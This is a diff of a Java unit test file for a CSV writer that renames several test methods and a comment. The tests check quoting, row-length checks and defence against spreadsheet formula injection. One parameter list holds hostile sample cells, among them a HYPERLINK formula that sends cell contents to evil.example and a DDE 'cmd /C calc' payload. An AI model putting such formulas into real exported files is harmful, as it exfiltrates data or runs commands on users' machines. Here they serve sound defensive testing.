@@ -19,7 +19,7 @@ import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException
 class CsvFileTests {
 
 	@Test
-	void isAsTheStandardHasIt() {
+	void followsTheStandard() {
 		CsvFile file = CsvFile.of("Network", "Answers").row("North", 12).row("South, \"old\"", 7);
 		assertThat(text(file))
 			.isEqualTo("\ufeff\"Network\",\"Answers\"\r\n\"North\",12\r\n\"South, \"\"old\"\"\",7\r\n");
@@ -29,7 +29,7 @@ class CsvFileTests {
 	@ParameterizedTest
 	@ValueSource(strings = { "=1+1", " =1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠a",
 			"=HYPERLINK(\"https://evil.example/?\"&A1,\"here\")", "-2+3+cmd|' /C calc'!A0" })
-	void makesTextOfFormulas(String cell) throws IOException {
+	void turnsFormulasIntoText(String cell) throws IOException {
 		assertThat(read(CsvFile.of("a").row(cell))).containsExactly("'" + cell);
 		assertThat(text(CsvFile.of(cell)).substring(1)).startsWith("\"'");
 	}
@@ -54,13 +54,13 @@ class CsvFileTests {
 
 	@ParameterizedTest
 	@ValueSource(ints = { 0, 1, 3 })
-	void refusesRowsOfAnotherLength(int cells) {
+	void refusesRowsOfDifferentLength(int cells) {
 		Object[] row = Stream.generate(() -> "x").limit(cells).toArray();
 		assertThatIllegalArgumentException().isThrownBy(() -> CsvFile.of("a", "b").row(row))
 			.withMessage("There are 2 columns, not " + cells);
 	}
 
-	// all cells but those of the first line
+	// all cells except the header's
 	private static List<String> read(CsvFile file) throws IOException {
 		try (CSVParser parser = CSVParser.parse(text(file).substring(1), CSVFormat.RFC4180)) {
 			return parser.getRecords().stream().skip(1).flatMap(CSVRecord::stream).toList();
